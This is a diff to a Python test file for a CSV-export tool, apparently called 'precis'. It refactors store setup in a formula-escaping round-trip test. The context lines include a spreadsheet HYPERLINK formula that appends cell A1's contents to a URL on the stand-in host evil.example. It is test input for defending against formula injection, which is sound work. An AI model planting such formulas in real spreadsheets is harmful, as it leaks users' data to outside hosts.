@@ -15,7 +15,7 @@ from precis.record import CELL_LIMIT
 from precis.sheets import csv_escape, csv_unescape, read_file, write_file
 from precis.site.downloads import write_downloads
 from precis.store import Store, find_entry, import_records, load_records
-from tests.helpers import run_precis
+from tests.helpers import init_store, run_precis
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -77,8 +77,7 @@ def test_csv_export_escapes_formulas_and_round_trips(sample_store, tmp_path):
 
 
 def assert_round_trip(store: Store, path: Path, tmp_path: Path) -> None:
-    fresh = Store(str(tmp_path / f"fresh-{path.suffix[1:]}.db"))
-    fresh.init()
+    fresh = init_store(Store(str(tmp_path / f"fresh-{path.suffix[1:]}.db")))
     import_records(fresh, read_file(path))
     assert [r.to_dict() for r in load_records(fresh)] == [r.to_dict() for r in load_records(store)]
 
